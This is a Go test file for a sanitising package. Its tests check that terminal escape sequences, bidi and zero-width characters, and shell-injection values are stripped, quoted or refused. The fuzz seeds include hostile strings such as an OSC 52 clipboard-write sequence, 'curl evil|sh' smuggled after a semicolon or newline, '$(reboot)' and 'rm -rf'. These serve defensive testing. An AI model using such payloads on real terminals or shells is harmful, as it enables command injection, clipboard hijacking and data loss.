package safe

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/charmbracelet/x/ansi"
)

// hostile are the strings of issue 11's audit and their relatives.
var hostile = []string{
	"\x1b]52;c;ZWNobyBQV05FRAo=\x07",      // OSC 52 clipboard write (BEL)
	"\x1b]52;c;ZWNobyBQV05FRAo=\x1b\\",    // OSC 52 with ST
	"\x1b]0;pwned title\x07",              // window title
	"\x1b[2J\x1b[H",                       // clear screen
	"\x1b[?1049l",                         // leave the alternate screen
	"\u009b2J",                            // C1 CSI as UTF-8
	"\x9b2J",                              // C1 CSI as a raw byte
	"\u009d0;title\u009c",                 // C1 OSC ... ST
	"ab\u202ecba\u202c",                   // bidi override
	"a\u2066b\u2069c\u200bd\u200de\ufeff", // isolates, zero width, BOM
	"line1\nline2\r\nline3\rline4",
	"tab\there\x7fdel\x00nul",
	"\x1bP1$r\x1b\\", // DCS
	"\x1b_apc\x1b\\", // APC
	"\x1b",           // lone ESC
	"\x1b[",          // truncated CSI
}

func TestLineRemovesEveryTerminalControl(t *testing.T) {
	for _, h := range hostile {
		for _, s := range []string{h, "x" + h + "y", "日本" + h + "語"} {
			got := Line(s)
			if HasEscape(got) || HasBidiOrZeroWidth(got) || strings.Contains(got, "\n") {
				t.Errorf("Line(%q) = %q still has a control", s, got)
			}
			if !utf8.ValidString(got) {
				t.Errorf("Line(%q) = %q is not UTF-8", s, got)
			}
			if b := Block(s); HasEscape(b) || HasBidiOrZeroWidth(b) {
				t.Errorf("Block(%q) = %q still has a control", s, b)
			}
		}
	}
}

func TestLineRemovesSequencesWhole(t *testing.T) {
	cases := map[string]string{
		"a\x1b]52;c;ZWNobyBQV05FRAo=\x07b": "ab",
		"a\x1b]0;pwned\x07b":               "ab",
		"\x1b[31mred\x1b[0m":               "red",
		"a\u009b2Jb":                       "ab",
		"ab\u202ecba":                      "abcba",
		"x\ty\nz":                          "x y z",
		"python3 train.py --lr 3e-4":       "python3 train.py --lr 3e-4",
		"日本語 ｗｉｄｅ 🚀":                       "日本語 ｗｉｄｅ 🚀",
		"bad\xffutf8":                      "badutf8",
	}
	for in, want := range cases {
		if got := Line(in); got != want {
			t.Errorf("Line(%q) = %q, want %q", in, got, want)
		}
	}
	if got := Block("a\r\nb\x1b[2Jc\nd"); got != "a\nbc\nd" {
		t.Errorf("Block kept/removed the wrong things: %q", got)
	}
}

func TestLineKeepsWidth(t *testing.T) {
	for _, s := range []string{"GPU 日本語", "ｗｉｄｅ", "café", "emoji 🚀 ok"} {
		if got := Line(s); got != s || ansi.StringWidth(got) != ansi.StringWidth(s) {
			t.Errorf("Line(%q) = %q changed printable text", s, got)
		}
	}
}

func TestQuoteAndCmd(t *testing.T) {
	ok := map[string]string{
		"/usr/local/cuda-12.4/bin/nvcc": "/usr/local/cuda-12.4/bin/nvcc",
		"/opt/my dir/nvcc":              "'/opt/my dir/nvcc'",
		"/tmp/x;curl evil|sh":           "'/tmp/x;curl evil|sh'",
		"it's":                          `'it'\''s'`,
		"$(reboot)":                     "'$(reboot)'",
		"":                              "''",
	}
	for in, want := range ok {
		got, err := Quote(in)
		if err != nil || got != want {
			t.Errorf("Quote(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	for _, bad := range []string{"a\nb", "a\x1b[2Jb", "a\u202eb", "a\x00b", "bad\xff"} {
		if q, err := Quote(bad); err == nil {
			t.Errorf("Quote(%q) = %q, want an error", bad, q)
		}
	}
	c, err := Cmd("ls -l {} && {} --version", "/a b", "/usr/bin/nvcc")
	if err != nil || c != "ls -l '/a b' && /usr/bin/nvcc --version" {
		t.Errorf("Cmd = %q, %v", c, err)
	}
	if _, err := Cmd("{} --version", "/tmp/x\ncurl evil|sh"); err == nil {
		t.Error("Cmd accepted a value with a newline")
	}
	if _, err := Cmd("{} {}", "one"); err == nil {
		t.Error("Cmd accepted too few values")
	}
	if got := Cmds([]string{"a {}", "x\ny"}, []string{"b {}", "ok"}); len(got) != 1 || got[0] != "b ok" {
		t.Errorf("Cmds = %q", got)
	}
}

func TestCommandOK(t *testing.T) {
	if !CommandOK("sudo modprobe nvidia  # loads it") {
		t.Error("a plain command was refused")
	}
	for _, c := range []string{"", "echo hi\ncurl evil|sh", "x\x1b]52;c;AA\x07", "rm -rf \u202e/"} {
		if CommandOK(c) {
			t.Errorf("CommandOK(%q) = true", c)
		}
	}
}

type inner struct {
	Name string
	Cmds []string `safe:"cmd"`
	Doc  string   `safe:"block"`
	N    int
}

type outer struct {
	A    string
	P    *inner
	L    []inner
	M    map[string]string
	Arr  [2]string
	Nums []int
	priv string
}

func TestWalk(t *testing.T) {
	o := outer{
		A:    "a\x1b]0;t\x07",
		P:    &inner{Name: "n\u009b2J", Cmds: []string{"ok", "bad\nline", "x\x1b[2J"}, Doc: "l1\nl2\x1b[2J"},
		L:    []inner{{Name: "\u202eevil"}},
		M:    map[string]string{"k\x1b[1m": "v\x07"},
		Arr:  [2]string{"\x1b[H", "ok"},
		priv: "\x1b",
	}
	Walk(&o)
	if o.A != "a" || o.P.Name != "n" || o.P.Doc != "l1\nl2" || o.L[0].Name != "evil" ||
		o.Arr[0] != "" || o.M["k"] != "v" || len(o.M) != 1 {
		t.Fatalf("Walk left: %+v %+v", o, *o.P)
	}
	if len(o.P.Cmds) != 1 || o.P.Cmds[0] != "ok" {
		t.Errorf("commands not fit to copy were kept: %q", o.P.Cmds)
	}
	if o.priv != "\x1b" {
		t.Error("Walk touched an unexported field")
	}
	Walk(nil)
	Walk(o) // not a pointer: no-op, no panic
}

// FuzzLine: whatever the input, Line's output has no terminal control and is
// valid UTF-8, cleaning twice changes nothing, and clean text is kept.
func FuzzLine(f *testing.F) {
	for _, h := range hostile {
		f.Add(h)
	}
	f.Add("plain text 日本語")
	f.Fuzz(func(t *testing.T, s string) {
		got := Line(s)
		if HasEscape(got) || HasBidiOrZeroWidth(got) || strings.ContainsAny(got, "\n\r\t") {
			t.Fatalf("Line(%q) = %q", s, got)
		}
		if !utf8.ValidString(got) {
			t.Fatalf("Line(%q) = %q: invalid UTF-8", s, got)
		}
		if Line(got) != got {
			t.Fatalf("Line is not idempotent on %q", s)
		}
		if IsClean(s) && got != s {
			t.Fatalf("clean %q changed to %q", s, got)
		}
		b := Block(s)
		if HasEscape(b) || HasBidiOrZeroWidth(b) {
			t.Fatalf("Block(%q) = %q", s, b)
		}
		if q, err := Quote(s); err == nil && strings.ContainsAny(q, "\n\x1b") {
			t.Fatalf("Quote(%q) = %q", s, q)
		}
	})
}
